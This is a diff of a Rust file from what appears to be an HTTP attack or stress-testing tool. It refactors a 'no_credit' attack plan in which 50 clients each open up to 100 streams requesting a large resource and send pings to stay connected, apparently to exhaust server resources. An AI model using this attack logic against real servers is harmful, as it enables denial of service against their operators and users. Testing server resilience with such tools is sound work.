@@ -6,7 +6,7 @@ use crate::attack::{LARGE, Plan, Victim};
 use crate::hooks::Hooks;
 use crate::http::{self, Method};
 
-use super::{Crowd, crowd};
+use super::Crowd;
 
 /// The entry of the attack in the list.
 pub(super) const PLAN: Plan = Plan {
@@ -18,17 +18,14 @@ pub(super) const PLAN: Plan = Plan {
 };
 
 fn no_credit() -> Crowd {
-    Crowd::new(50, |connection, progress, _| {
-        for _ in 0..crowd::permitted(connection, progress, 100 - progress.streams.min(100)) {
-            let id = http::request_stream(progress.streams);
-            progress.streams += 1;
+    Crowd::of_clients(50, |connection, progress, _| {
+        for id in progress.requests(connection, 100 - progress.streams.min(100)) {
             let request = http::request(Method::Get, LARGE);
             connection.push_bytes(http::stream(id, 0, &request, true));
         }
         // Prevents the idle timeout.
         connection.push(&courser_wire::Frame::Ping);
     })
-    .with_begin(crowd::preface)
     .with_hooks(|| Box::new(NoCredit))
     .with_pause(std::time::Duration::from_millis(500))
 }
